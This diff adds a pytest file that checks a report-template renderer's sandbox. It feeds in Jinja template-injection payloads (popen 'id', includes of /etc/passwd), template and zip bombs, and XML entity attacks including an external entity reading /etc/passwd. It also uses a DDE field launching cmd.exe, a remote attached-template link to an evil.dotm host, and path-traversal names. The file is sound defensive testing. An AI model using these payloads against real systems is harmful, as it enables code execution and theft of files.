@@ -1,0 +1,224 @@
+"""A template has no power: whatever it tries, a problem comes of it, in bounded time and memory."""
+
+from __future__ import annotations
+
+import io
+import struct
+import tracemalloc
+import zipfile
+import zlib
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from offices import office
+from wordfile import word
+
+from selfeval.documents import markdown
+from selfeval.documents.check import check, refuse
+from selfeval.documents.sandbox import RenderingError
+from selfeval.documents.view import Item
+from selfeval.documents.word import render as word_writer
+from selfeval.form.form import Form
+from selfeval.form.library import load
+from selfeval.pipeline.department import build
+from selfeval.problem import Level, Problem
+
+WALKS = (
+    "{{ ''.__class__.__mro__[1].__subclasses__()[389](['id'], stdout=-1).communicate()[0] }}",  # docxtpl issue 549
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",  # docxtpl issue 632
+    "{{ 部门.__class__ }}",
+    "{{ 标题.__class__.__base__ }}",
+    "{{ self.__init__.__globals__ }}",
+    "{{ 部门.名称.format.__self__ }}",
+    "{{ '{0.__class__.__init__.__globals__}'.format(部门) }}",
+    "{{ 标题|attr('__class__') }}",
+    "{{ 部门['__class__'] }}",
+    "{{ lipsum.__globals__ }}",
+    "{{ 部门.clear() }}",
+    "{% include '/etc/passwd' %}",
+    "{% import '/etc/passwd' as x %}",
+    "{% extends '/etc/passwd' %}",
+)
+BOMBS = (
+    "{{ '%s' % 部门 }}",
+    "{{ 9**(9**9) }}",
+    "{{ 标题 * 999999999 }}",
+    "{{ '%999999999d' % 1 }}",
+    "{% for i in range(999999999) %}x{% endfor %}",
+    "{% for a in 绩效指标 %}{% for b in 绩效指标 %}x{% endfor %}{% endfor %}",
+    "{% for a in 重点任务 recursive %}{{ loop(重点任务) }}{% endfor %}",
+    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "{{ " + "(" * 5000 + "标题" + ")" * 5000 + " }}",
+    "{{ " + "9" * 10000 + " }}",
+)
+NAMES = Item({"标题": "题", "部门": Item({"名称": "局"})})
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory: pytest.TempPathFactory) -> Form:
+    """Return the base form."""
+    return load(office(tmp_path_factory.mktemp("base")) / "templates").forms["form"]
+
+
+def templates(folder: Path, text: str) -> list[Path]:
+    """Write a text as the Word and the Markdown template of a form."""
+    in_word, in_markdown = folder / "document.docx", folder / "document.md"
+    in_word.write_bytes(word(text))
+    in_markdown.write_text(text, encoding="utf-8")
+    return [in_word, in_markdown]
+
+
+def problems(base: Form, folder: Path) -> tuple[Problem, ...]:
+    """Return what the check says of the templates in a folder."""
+    return check(replace(base, folder=folder)).problems
+
+
+@pytest.mark.parametrize("text", [*WALKS, *BOMBS])
+def test_a_tag_with_power_is_refused_before_it_runs(text: str, tmp_path: Path, base: Form) -> None:
+    """In Word and Markdown, by the check and before rendering."""
+    paths = templates(tmp_path, text)
+    said = problems(base, tmp_path)
+    assert {Path(problem.place.file).name for problem in said if problem.level is Level.ERROR} == {
+        path.name for path in paths
+    }
+    for path in paths:
+        with pytest.raises(RenderingError):
+            refuse(path)
+
+
+@pytest.mark.parametrize("text", WALKS)
+def test_the_room_is_closed_too(text: str, tmp_path: Path) -> None:
+    """What were to slip through the check still finds nothing when it runs."""
+    in_word, in_markdown = templates(tmp_path, text)
+    with pytest.raises(RenderingError):
+        word_writer.render(in_word, NAMES, "", "")
+    with pytest.raises(RenderingError):
+        markdown.render(in_markdown, NAMES, "", "")
+
+
+@pytest.mark.parametrize("mark", ["9**(9**9)", "标题|attr('__class__')", "x }}{{ 9**(9**9)", "部门.__class__"])
+def test_a_merge_mark_is_no_way_in(mark: str, tmp_path: Path) -> None:
+    """A mark becomes a tag, so it may say no more than one."""
+    path, _ = templates(tmp_path, f"| 〔合并 {mark}〕局 |")
+    with pytest.raises(RenderingError):
+        refuse(path)
+
+
+def png(width: int, height: int) -> bytes:
+    """Return the head of a picture of that size."""
+    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII5s", 13, b"IHDR", width, height, b"\x08\2\0\0\0") + b"\0" * 8
+
+
+def jpeg(width: int, height: int) -> bytes:
+    """Return a picture of that size that holds a small preview."""
+    frame = b"\xff\xc0\x00\x11\x08"
+    return b"\xff\xd8" + frame + struct.pack(">HH", 90, 60) + b"\3" + frame + struct.pack(">HH", height, width) + b"\3"
+
+
+LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
+LEAK = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+EXTERNAL = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="t" TargetMode="External" Target="http://example.com/evil.dotm"'
+    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+PACKAGES = {
+    "zip bomb": {"word/media/a.png": b"\0" * (60 * 2**20)},
+    "attached template": {"word/_rels/settings.xml.rels": EXTERNAL},
+    "macro": {"word/vbaProject.bin": b""},
+    "control": {"word/activeX/activeX1.bin": b""},
+    "entities": {"word/settings.xml": LAUGHS},
+    "outer entity": {"docProps/app.xml": LEAK},
+    "deep nesting": {"word/settings.xml": b"<a>" * 100_000 + b"</a>" * 100_000},
+    "not XML": {"word/styles.xml": b"<a>"},
+    "giant PNG": {"word/media/a.png": png(60_000, 60_000)},
+    "giant JPEG": {"word/media/a.jpeg": jpeg(65_000, 65_000)},
+    "DDE field": {"word/footer1.xml": b"<w:ftr " + W + b"><w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
+        b"<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:ftr>"},
+    "include field": {"word/footer1.xml": b"<w:ftr " + W + b'><w:fldSimple w:instr="INCLUDETEXT c:/x"/></w:ftr>'},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", PACKAGES)
+def test_a_package_with_power_is_refused(name: str, tmp_path: Path, base: Form) -> None:
+    """By the check and before rendering, without unpacking what is too large."""
+    path, _ = templates(tmp_path, "{{ 标题 }}")
+    path.write_bytes(word("{{ 标题 }}", PACKAGES[name]))
+    tracemalloc.start()
+    try:
+        rules = {problem.rule for problem in problems(base, tmp_path)}
+        assert rules & {"template-unsafe", "template-unreadable"}
+        with pytest.raises(RenderingError):
+            refuse(path)
+        assert tracemalloc.get_traced_memory()[1] < 20 * 2**20
+    finally:
+        tracemalloc.stop()
+
+
+def lying(data: bytes) -> bytes:
+    """Return a package that says its largest member has ten bytes."""
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        largest = max(package.infolist(), key=lambda entry: entry.file_size)
+    return data.replace(struct.pack("<I", largest.file_size), struct.pack("<I", 10))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"",
+        b"PK\3\4",
+        b"\xd0\xcf\x11\xe0 an old or locked document",
+        word("{{ x }}")[:-40],
+        lying(word("{{ 标题 }}", {"word/media/a.png": b"\0" * 5_000_000})),
+        word("", {"word/document.xml": zlib.compress(b"x")}),
+    ],
+    ids=["empty", "head only", "locked", "cut off", "lying about sizes", "not XML"],
+)
+def test_what_is_no_word_file_is_a_problem(data: bytes, tmp_path: Path, base: Form) -> None:
+    """Never an exception of the library that reads it."""
+    path, _ = templates(tmp_path, "")
+    path.write_bytes(data)
+    with pytest.raises(RenderingError):
+        refuse(path)
+    said = problems(base, tmp_path)
+    assert "template-unreadable" in {problem.rule for problem in said}
+
+
+def test_a_template_is_no_link_to_another_file(tmp_path: Path, base: Form) -> None:
+    """A link would print any file of this machine into a report."""
+    secret = tmp_path / "secret.txt"
+    secret.write_text("秘密", encoding="utf-8")
+    _, path = templates(tmp_path, "")
+    path.unlink()
+    path.symlink_to(secret)
+    with pytest.raises(RenderingError, match="链接"):
+        refuse(path)
+    said = problems(base, tmp_path)
+    assert any(problem.rule == "template-unsafe" for problem in said)
+
+
+@pytest.mark.parametrize(
+    ("word_in_form", "value"),
+    [
+        ("文件名", "../../../../escaped"),
+        ("文件名", "/escaped"),
+        ("文件名", "..\\escaped"),
+        ("数据", "../../../secret.yaml"),
+    ],
+)
+def test_a_form_stays_in_its_folders(word_in_form: str, value: str, tmp_path: Path) -> None:
+    """Neither where it reads nor where it writes can a form leave the department's folders."""
+    office(tmp_path)
+    (tmp_path / "secret.yaml").write_text("秘密: 1\n", encoding="utf-8")
+    form = tmp_path / "templates/form/form.yaml"
+    text = form.read_text(encoding="utf-8")
+    added = f"数据:\n  - {value}\n" if word_in_form == "数据" else f"文件名: {value}\n数据:\n"
+    form.write_text(text.replace("数据:\n", added), encoding="utf-8")
+    reports = tmp_path / "reports"
+    outcome = build(tmp_path / "data", "2024", "qinghu", load(tmp_path / "templates"), reports)
+    assert outcome.documents
+    for document in outcome.documents:
+        assert (reports / document.path).resolve().parent == (reports / "2024/qinghu").resolve()
+    assert not any("秘密" in line for lines in outcome.lines.values() for line in lines)
